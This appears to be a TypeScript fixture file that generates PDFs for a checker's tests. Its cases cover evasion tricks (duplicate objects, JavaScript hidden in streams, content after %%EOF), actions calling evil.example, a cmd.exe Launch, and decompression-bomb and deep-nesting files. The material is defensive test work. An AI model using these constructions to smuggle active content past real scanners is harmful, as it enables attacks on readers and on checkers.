import zlib from 'node:zlib';

/**
 * PDFs written byte by byte for the check's tests (pdf-check.test.ts): the tricks that hide active content from
 * a parser reading in file order, each kind of active content, and files that would exhaust a checker's memory
 * or time. Object 1 is the catalogue, 2 the page tree, 3 the page; `xref` points each number at its first
 * definition, as a reader follows it, while pdf-lib keeps the last.
 */
const HEADER = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
/** The JavaScript the tests look for, with poppler's `pdfinfo -js` too. */
export const SCRIPT = 'app.alert("pruefbericht")';
const script = `<< /S /JavaScript /JS (${SCRIPT}) >>`;

const page = (extra = '') =>
  `3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${extra} >>\nendobj\n`;
const pages = '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n';
const catalog = (extra = '') => `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${extra} >>\nendobj\n`;
const object = (number: number, body: string) => `${number} 0 obj\n${body}\nendobj\n`;
const stream = (number: number, data: string, dict = '') =>
  `${number} 0 obj\n<< /Length ${data.length} ${dict} >>\nstream\n${data}\nendstream\nendobj\n`;

/** `body` with a cross-reference table to each number's first definition at a line start, and a trailer. */
export function finish(body: string, trailer = ''): Buffer {
  const text = HEADER + body;
  const offsets = new Map<number, number>();
  for (const match of text.matchAll(/(?<=\n)(\d+) 0 obj\b/g))
    if (!offsets.has(Number(match[1]))) offsets.set(Number(match[1]), match.index);
  const size = [...offsets.keys()].reduce((most, number) => Math.max(most, number), 0) + 1;
  const rows = Array.from({ length: size }, (_, number) =>
    offsets.has(number)
      ? `${String(offsets.get(number)).padStart(10, '0')} 00000 n \n`
      : '0000000000 65535 f \n',
  );
  const xref = `xref\n0 ${size}\n${rows.join('')}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\n`;
  return Buffer.from(`${text}${xref}startxref\n${text.length}\n%%EOF\n`, 'latin1');
}

const plain = (catalogExtra = '', pageExtra = '', more = '') =>
  catalog(catalogExtra) + pages + page(pageExtra) + more;
const annotation = (body: string) => `/Annots [<< /Type /Annot /Rect [0 0 100 100] ${body} >>]`;
const link = (action: string) => annotation(`/Subtype /Link /A ${action}`);

/** Each trick and kind of active content, named as the tests report it. */
export const ACTIVE_PDFS = {
  // The same number twice: the reader takes the first (the cross-reference table says so), pdf-lib the last.
  'duplicate object number': () =>
    finish(
      plain(
        '/OpenAction 5 0 R',
        link('5 0 R'),
        object(5, script) + object(5, '<< /S /GoTo /D [3 0 R /Fit] >>'),
      ),
    ),
  // Object 5 stands inside the data of stream 4; only the cross-reference table leads there.
  'JavaScript hidden in another stream': () =>
    finish(plain('', link('5 0 R'), stream(4, `\n${object(5, script)}`))),
  // The open and close actions lead into the hidden object.
  'open and close actions hidden in a stream': () =>
    finish(
      plain(
        '/OpenAction 5 0 R /AA << /WC 5 0 R >>',
        '/AA << /O 5 0 R >>',
        stream(4, `\n${object(5, script)}`),
      ),
    ),
  // A clean copy after %%EOF, which pdf-lib reads last; readers follow the last startxref, before it.
  'clean copy after %%EOF': () =>
    Buffer.concat([
      finish(plain('', link('5 0 R'), object(5, script))),
      Buffer.from(object(5, '<< /S /GoTo /D [3 0 R /Fit] >>'), 'latin1'),
    ]),
  'JavaScript in names written in lower-case hex': () =>
    finish(plain('', link(`<< /S /#4aava#53cript /#4a#53 (${SCRIPT}) >>`))),
  'XFA form with <script>': () =>
    finish(
      plain(
        '/AcroForm << /Fields [] /XFA 5 0 R >>',
        '',
        stream(5, `<xdp:xdp><template><script>${SCRIPT}</script></template></xdp:xdp>`),
      ),
    ),
  'SubmitForm to a URL': () =>
    finish(plain('', link('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>'))),
  ImportData: () => finish(plain('', link('<< /S /ImportData /F (data.fdf) >>'))),
  'GoToR to a network path': () =>
    finish(plain('', link('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>'))),
  'GoToE into an embedded file': () =>
    finish(plain('', link('<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>'))),
  Rendition: () => finish(plain('', link('<< /S /Rendition /OP 0 /AN 3 0 R >>'))),
  'RichMedia annotation': () =>
    finish(plain('', annotation('/Subtype /RichMedia /RichMediaContent << /Assets << /Names [] >> >>'))),
  '3D annotation': () =>
    finish(plain('', annotation('/Subtype /3D /3DD 5 0 R'), stream(5, 'U3D', '/Type /3D /Subtype /U3D'))),
  'Movie annotation': () => finish(plain('', annotation('/Subtype /Movie /Movie << /F (clip.mov) >>'))),
  'Sound action': () =>
    finish(plain('', link('<< /S /Sound /Sound 5 0 R >>'), stream(5, 'RIFF', '/Type /Sound /R 8000'))),
  'Launch action': () => finish(plain('/OpenAction << /S /Launch /F (cmd.exe) >>')),
  'embedded file': () =>
    finish(
      plain(
        '/Names << /EmbeddedFiles << /Names [(a.txt) << /Type /Filespec /F (a.txt) /EF << /F 5 0 R >> >>] >> >>',
        '',
        stream(5, 'secret', '/Type /EmbeddedFile'),
      ),
    ),
  'javascript: URI': () => finish(plain('', link(`<< /S /URI /URI (JavaScript:${SCRIPT}) >>`))),
  'file: URI': () => finish(plain('', link('<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>'))),
} satisfies Record<string, () => Buffer>;

/** The kinds whose JavaScript poppler's `pdfinfo -js` prints: proof that a reader finds what the check refuses. */
export const JAVASCRIPT_KINDS = [
  'duplicate object number',
  'JavaScript hidden in another stream',
  'open and close actions hidden in a stream',
  'clean copy after %%EOF',
  'JavaScript in names written in lower-case hex',
] as const satisfies readonly (keyof typeof ACTIVE_PDFS)[];

/** A link to the web is no active content. */
export const webLinkPdf = () => finish(plain('', link('<< /S /URI /URI (https://example.com/anleitung) >>')));

/** Object stream `number` holding `inflated` bytes of spaces, Flate-compressed. */
const objectStream = (number: number, inflated: number) => {
  const data = zlib.deflateSync(Buffer.alloc(inflated, 0x20), { level: 9 }).toString('latin1');
  return stream(number, data, `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`);
};

/** Files a checker without bounds would choke on; each is far inside the upload limit. */
export const BOUNDS_PDFS = {
  // One array of 5.2 million zeros, about 10 MB.
  'an array of 5.2 million zeros': () => finish(plain('', '', object(5, `[${'0 '.repeat(5_200_000)}]`))),
  'a hundred thousand objects of ten values': () =>
    finish(
      plain(
        '',
        '',
        Array.from({ length: 100_000 }, (_, index) => object(index + 5, '[0 0 0 0 0 0 0 0 0 0]')).join(''),
      ),
    ),
  'an object stream inflating to 200 MB': () => finish(plain('', '', objectStream(5, 200 * 1024 * 1024))),
  'object streams inflating to 75 MB together': () =>
    finish(plain('', '', [5, 6, 7, 8, 9].map((number) => objectStream(number, 15 * 1024 * 1024)).join(''))),
  'arrays nested 100,000 deep': () =>
    finish(plain('', '', object(5, `${'['.repeat(100_000)}${']'.repeat(100_000)}`))),
  // Streams without an end: each is searched to the end of the file, a square of the file's size in all.
  'half a million streams without an end': () =>
    finish(
      plain(
        '',
        '',
        Array.from({ length: 500_000 }, (_, index) => `${index + 5} 0 obj << >> stream\n`).join(''),
      ),
    ),
} satisfies Record<string, () => Buffer>;
